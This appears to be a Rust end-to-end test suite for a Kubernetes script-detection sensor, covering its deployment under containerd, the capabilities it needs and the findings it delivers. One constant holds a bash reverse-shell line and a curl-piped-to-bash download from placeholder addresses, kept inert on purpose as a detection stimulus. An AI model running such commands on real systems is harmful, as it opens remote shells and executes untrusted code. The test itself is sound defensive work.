//! The image of `cargo xtask package` as the chart deploys it: in a container of its own under containerd, with the
//! mounts, capabilities and environment that the manifest gives it and no others.

use std::{
    collections::BTreeMap,
    fs,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use e2e::{
    certificate::Authority,
    collectors,
    containerd::{Containerd, Plan, Pod},
    daemon::{self, Daemon},
    image::Image,
    issuer::{self, Issuer},
    manifests, outcome,
};
use serde_json::Value;
use tempfile::TempDir;

const IMAGE: &str = "docker.io/library/scriptwatch:0.1.0";
const SHELL: &str = "docker.io/local/shell:1";
/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";

/// Can shells be probed without `CAP_SYS_ADMIN`? From kernel 6.6 on.
fn has_links_for_probes() -> bool {
    let release = fs::read_to_string("/proc/sys/kernel/osrelease").expect("the kernel's version");
    let mut numbers = release.split(['.', '-']).map_while(|n| n.trim().parse::<u32>().ok());
    (numbers.next(), numbers.next()) >= (Some(6), Some(6))
}

/// A cluster of one node: containerd with the packaged image, and a collector.
struct Cluster {
    dir: TempDir,
    containerd: Containerd,
    collector: Daemon,
    collector_url: String,
    daemon_set: Value,
    config: String,
}

/// A collector with a certificate, which believes the tokens of whom its pod's environment names; and who signs them.
fn believing(dir: &Path, container: &Value) -> (Issuer, Daemon, u16) {
    let authority = Authority::new("ours").expect("an authority");
    let ca = authority.write(dir, "ca.pem").expect("a file");
    let own = authority.issue(dir, "server", "127.0.0.1", 24).expect("a certificate");
    let issuer = Issuer::start(&own, "the-collectors-own").expect("a cluster");
    fs::write(dir.join("bearer"), "the-collectors-own").expect("a file");
    let keys = format!("https://{}{}", issuer.address, issuer::PATH);
    let env = container["env"].as_array().expect("an environment");
    let told = |name: &str| {
        let entry = env.iter().find(|entry| entry["name"] == name);
        entry.and_then(|entry| entry["value"].as_str()).expect(name).to_owned()
    };
    let path = |path: &Path| path.to_str().expect("a path").to_owned();
    let args = [
        ["--tls-cert".to_owned(), path(&own.certificate)],
        ["--tls-key".to_owned(), path(&own.key)],
        ["--token-keys".to_owned(), keys],
        ["--token-keys-ca".to_owned(), path(&ca)],
        ["--token-keys-bearer".to_owned(), path(&dir.join("bearer"))],
        ["--token-audience".to_owned(), told("SCRIPTWATCH_COLLECTOR_TOKEN_AUDIENCE")],
        ["--token-subject".to_owned(), told("SCRIPTWATCH_COLLECTOR_TOKEN_SUBJECT")],
    ];
    let args: Vec<&str> = args.as_flattened().iter().map(String::as_str).collect();
    let (collector, port) = collectors::start_with(dir, "port", 0, &args).expect("a collector");
    (issuer, collector, port)
}

impl Cluster {
    fn start() -> Self {
        let shell = Image::new(SHELL)
            .program("/bin/bash")
            .and_then(|image| image.program("/bin/sleep"))
            .expect("a program")
            .private("/opt/own/bash", Path::new("/bin/bash"), 1234);
        let shell = shell.entrypoint(&["/bin/sleep", "86400"]);
        let containerd = Containerd::start_shared(&[shell]).expect("containerd");
        let image = std::env::var_os("SCRIPTWATCH_TEST_IMAGE")
            .expect("SCRIPTWATCH_TEST_IMAGE: run this with `cargo xtask test`");
        containerd.import_tar(&PathBuf::from(image)).expect("the image");
        let dir = tempfile::tempdir().expect("a directory");
        let manifests = manifests::read().expect("the manifests");
        let daemon_set = manifests["DaemonSet scriptwatch-sensor"].clone();
        let collector_set = &manifests["Deployment scriptwatch-collector"]["spec"]["template"]["spec"];
        let (issuer, collector, port) = believing(dir.path(), &collector_set["containers"][0]);
        // What the kubelet puts into the volumes: the collector's authority, and a token of the pod's node.
        let pod = &daemon_set["spec"]["template"]["spec"];
        for volume in pod["volumes"].as_array().expect("volumes") {
            let at = dir.path().join(volume["name"].as_str().expect("a name"));
            if volume["secret"].is_object() {
                fs::create_dir(&at).expect("a directory");
                fs::copy(dir.path().join("ca.pem"), at.join("ca.crt")).expect("a file");
            }
            let token = &volume["projected"]["sources"][0]["serviceAccountToken"];
            if let Some(audience) = token["audience"].as_str() {
                fs::create_dir(&at).expect("a directory");
                let account = pod["serviceAccountName"].as_str().expect("an account");
                let text = issuer.token(audience, ("scriptwatch", account), "node-1", 3600);
                fs::write(at.join(token["path"].as_str().expect("a path")), text).expect("a file");
            }
        }
        Self {
            dir,
            containerd,
            collector,
            collector_url: format!("https://127.0.0.1:{port}"),
            daemon_set,
            config: manifests["ConfigMap scriptwatch-sensor"]["data"].to_string(),
        }
    }

    /// The sensor's pod as the `DaemonSet` has it, with these capabilities; only what a cluster would fill in differs.
    fn sensor(&self, name: &str, capabilities: &[&str]) -> (Pod, String) {
        let pod_spec = &self.daemon_set["spec"]["template"]["spec"];
        let container = &pod_spec["containers"][0];
        let text = |value: &Value| value.as_str().expect("text").to_owned();
        let list = |value: &Value| value.as_array().expect("a list").clone();
        // The config map as a kubelet mounts it.
        let config = self.dir.path().join(name);
        fs::create_dir(&config).expect("a directory");
        let data: BTreeMap<String, String> = serde_json::from_str(&self.config).expect("config");
        for (file, content) in data {
            let here = content
                .replace("https://scriptwatch-collector.scriptwatch.svc:7600", &self.collector_url)
                .replace("127.0.0.1:7601", "127.0.0.1:0")
                .replace("0.0.0.0:7603", "127.0.0.1:0");
            fs::write(config.join(file), here).expect("config");
        }
        let host_path = |volume: &str| {
            let volumes = list(&pod_spec["volumes"]);
            let found = volumes.iter().find(|v| v["name"] == volume).expect("a volume").clone();
            match found["hostPath"]["path"].as_str() {
                // This containerd's state is elsewhere.
                Some("/run/containerd") => self.containerd.state().display().to_string(),
                Some(path) => path.to_owned(),
                None if found["configMap"].is_object() => config.display().to_string(),
                None => self.dir.path().join(volume).display().to_string(),
            }
        };
        let mounts: Vec<(String, String)> = list(&container["volumeMounts"])
            .iter()
            .filter(|mount| mount["name"] != "spool")
            .map(|mount| {
                assert_eq!(mount["readOnly"], true, "{mount}");
                (host_path(mount["name"].as_str().expect("a name")), text(&mount["mountPath"]))
            })
            .collect();
        let propagated: Vec<String> = list(&container["volumeMounts"])
            .iter()
            .filter(|mount| mount["mountPropagation"] == "HostToContainer")
            .map(|mount| text(&mount["mountPath"]))
            .collect();
        let propagated: Vec<&str> = propagated.iter().map(String::as_str).collect();
        let mounts: Vec<(&str, &str)> = mounts.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        // All that it may write: findings that wait.
        let spool = self.dir.path().join(format!("{name}-spool"));
        fs::create_dir(&spool).expect("a directory");
        let writable = [(spool.to_str().expect("a path"), "/var/lib/scriptwatch")];
        let env: Vec<(String, String)> = list(&container["env"])
            .iter()
            .map(|entry| {
                let value = entry["value"].as_str().unwrap_or("node-1").to_owned();
                (text(&entry["name"]), value)
            })
            .collect();
        let env: Vec<(&str, &str)> = env.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        let command: Vec<String> =
            list(&container["command"]).iter().chain(&list(&container["args"])).map(text).collect();
        let command: Vec<&str> = command.iter().map(String::as_str).collect();
        let security = &container["securityContext"];
        assert_eq!(security["privileged"], false);
        assert_eq!(security["capabilities"]["drop"][0], "ALL");
        assert_eq!(security["seccompProfile"]["type"], "RuntimeDefault");
        let pod = self.containerd.host_pid_pod("scriptwatch", name).expect("a pod");
        let plan = Plan {
            name: "sensor",
            image: IMAGE,
            command: &command,
            env: &env,
            mounts: &mounts,
            propagated: &propagated,
            writable: &writable,
            capabilities: Some(capabilities),
            hardened: security["readOnlyRootFilesystem"] == true
                && security["allowPrivilegeEscalation"] == false,
            host_pid: pod_spec["hostPID"] == true,
            ..Plan::default()
        };
        assert!(plan.hardened && plan.host_pid);
        let id = self.containerd.run(&pod, &plan).expect("the sensor");
        (pod, id)
    }

    /// As the chart grants them on this kernel.
    fn capabilities(&self) -> Vec<String> {
        let container = &self.daemon_set["spec"]["template"]["spec"]["containers"][0];
        let add = container["securityContext"]["capabilities"]["add"].as_array().expect("capabilities");
        let mut all: Vec<String> = add.iter().map(|c| c.as_str().expect("a name").to_owned()).collect();
        if !has_links_for_probes() {
            // As with `sensor.olderKernels=true`.
            all.retain(|capability| capability != "BPF" && capability != "PERFMON");
            all.push("SYS_ADMIN".to_owned());
        }
        all
    }

    /// Waits until the sensor's pod says this.
    fn wait_for_words(&self, pod: &Pod, words: &str) -> String {
        let start = Instant::now();
        loop {
            let log = self.containerd.output(pod, "sensor");
            if log.contains(words) {
                return log;
            }
            assert!(start.elapsed() < Duration::from_secs(30), "{words:?} is not said: {log}");
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn wait_for_findings(&self, sensor: &Pod, count: usize) -> Vec<Value> {
        let start = Instant::now();
        loop {
            let findings = collectors::findings(self.dir.path()).expect("findings");
            if findings.len() >= count {
                return findings;
            }
            let log = || self.containerd.output(sensor, "sensor");
            assert!(
                start.elapsed() < Duration::from_secs(30),
                "{} findings and not {count}: {}",
                findings.len(),
                log()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

#[test]
fn as_the_chart_deploys_it_the_sensor_sees_another_container_of_the_node() {
    let mut cluster = Cluster::start();
    let capabilities = cluster.capabilities();
    let capabilities: Vec<&str> = capabilities.iter().map(String::as_str).collect();
    let (sensor, id) = cluster.sensor("sensor", &capabilities);
    cluster.wait_for_words(&sensor, "ready tier=");
    // Loading is one thing, probes in a shell of a container that only its owner may read another.
    let pod = cluster.containerd.pod("shop", "web-0").expect("a pod");
    let script = format!("/bin/sleep 0.3; eval '{ATTACK}'");
    let command = ["/opt/own/bash", "-c", &script];
    let plan = Plan { name: "app", image: SHELL, command: &command, user: Some(1234), ..Plan::default() };
    cluster.containerd.run(&pod, &plan).expect("a container");
    let findings = cluster.wait_for_findings(&sensor, 2);
    let of = |origin: &str| {
        let found = findings.iter().find(|f| f["sourceProperties"]["Script_Origin"] == origin);
        found.unwrap_or_else(|| panic!("no finding of {origin}: {findings:#?}"))
    };
    for finding in [of("command"), of("eval")] {
        let property = |key: &str| finding["sourceProperties"][key].as_str().unwrap_or_default();
        assert_eq!(property("Pod_Name"), "web-0");
        assert_eq!(property("Node_Name"), "node-1");
        assert!(property("Container_Image_Id").starts_with("sha256:"));
        let binary = &finding["processes"][0]["binary"];
        assert_eq!(binary["path"], "/opt/own/bash");
        let bash = outcome::sha256(&fs::read("/bin/bash").expect("bash"));
        assert_eq!(binary["sha256"], bash.as_str(), "its binary could not be read: {finding:#}");
    }
    cluster.containerd.stop_container(&id).expect("a stop");
    let status = cluster.containerd.wait(&id).expect("its end");
    let log = cluster.containerd.output(&sensor, "sensor");
    assert_eq!(status.exit_code, 0, "{log}");
    assert!(log.contains("findings_spooled_total=2") && log.contains("findings_delivered_total=2"), "{log}");
    cluster.collector.stop().expect("a clean end");
}

#[test]
fn each_capability_is_missed_by_name() {
    let cluster = Cluster::start();
    let all = cluster.capabilities();
    for missing in &all {
        let others: Vec<&str> = all.iter().filter(|c| *c != missing).map(String::as_str).collect();
        let (pod, id) =
            cluster.sensor(&format!("without-{}", missing.to_lowercase().replace('_', "-")), &others);
        let status = cluster.containerd.wait(&id).expect("its end");
        let log = cluster.containerd.output(&pod, "sensor");
        assert_eq!(status.exit_code, 2, "without {missing}: {log}");
        let says = if missing == "SYS_ADMIN" { "CAP_BPF, CAP_PERFMON" } else { &format!("CAP_{missing}") };
        assert!(log.contains(&format!("needs the capabilities {says}:")), "without {missing}: {log}");
    }
}

#[test]
fn without_the_nodes_process_ids_the_remedy_is_named() {
    let cluster = Cluster::start();
    let pod = cluster.containerd.pod("scriptwatch", "own-pids").expect("a pod");
    let capabilities = cluster.capabilities();
    let capabilities: Vec<&str> = capabilities.iter().map(String::as_str).collect();
    let plan = Plan {
        name: "sensor",
        image: IMAGE,
        command: &["/usr/bin/sensor", "run"],
        capabilities: Some(&capabilities),
        ..Plan::default()
    };
    let id = cluster.containerd.run(&pod, &plan).expect("the sensor");
    assert_eq!(cluster.containerd.wait(&id).expect("its end").exit_code, 2);
    assert!(cluster.containerd.output(&pod, "sensor").contains("hostPID: true"));
}

#[test]
fn the_memory_of_a_pod_that_ended_is_kept_by_no_mount_of_the_sensor() {
    let cluster = Cluster::start();
    // The sensor comes when the pod is there.
    let pod = cluster.containerd.pod("shop", "web-0").expect("a pod");
    let capabilities = cluster.capabilities();
    let capabilities: Vec<&str> = capabilities.iter().map(String::as_str).collect();
    let (sensor, _) = cluster.sensor("sensor", &capabilities);
    cluster.wait_for_words(&sensor, "ready tier=");
    let own = fs::read_to_string("/proc/self/cgroup").expect("a cgroup");
    // Its /dev/shm, in the namespaces of sensors in containers. (A root file system goes with its directory in any case.)
    let mounts = || {
        let read = |process: &fs::DirEntry, file: &str| {
            fs::read_to_string(process.path().join(file)).unwrap_or_default()
        };
        let processes = fs::read_dir("/proc").expect("processes").flatten();
        let sensors = processes
            .filter(|process| read(process, "comm").trim() == "sensor" && read(process, "cgroup") != own);
        let is_of_pod = |line: &&str| line.contains(&pod.sandbox) && line.contains("/shm ");
        sensors.map(|sensor| read(&sensor, "mountinfo").lines().filter(is_of_pod).count()).sum::<usize>()
    };
    assert!(mounts() > 0, "it is not among the sensor's mounts");
    cluster.containerd.stop_pod(&pod).expect("its end");
    daemon::wait_until("no mount is left", || mounts() == 0);
}
